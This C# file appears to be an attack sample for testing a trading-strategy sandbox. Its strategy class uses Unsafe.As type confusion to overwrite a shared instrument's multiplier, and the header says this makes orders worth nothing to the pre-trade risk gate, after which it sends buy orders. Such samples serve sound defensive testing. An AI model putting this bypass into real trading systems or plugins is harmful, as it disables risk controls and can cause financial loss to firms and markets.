// Abuses: Unsafe.As on a class, from the base library, without unsafe code in this assembly.
// Harm: writes the multiplier of the shared instrument through a class of the same layout: orders are worth nothing to the gate.
// Kind: bypass of pre-trade risk.
#pragma warning disable CS0649 // fields that are only written from elsewhere
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.CompilerServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.UnsafeAsAttack;

public sealed class UnsafeAsStrategy : Strategy
{
    private sealed class Twin
    {
        public object? Symbol, Ticks;
        public long First, Second, Third, Fourth;
    }

    public override void OnBook(in BookEvent bookEvent)
    {
        Twin twin = Unsafe.As<Twin>(Context.Instrument(bookEvent.Instrument));
        twin.First = 0;
        Act(1);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
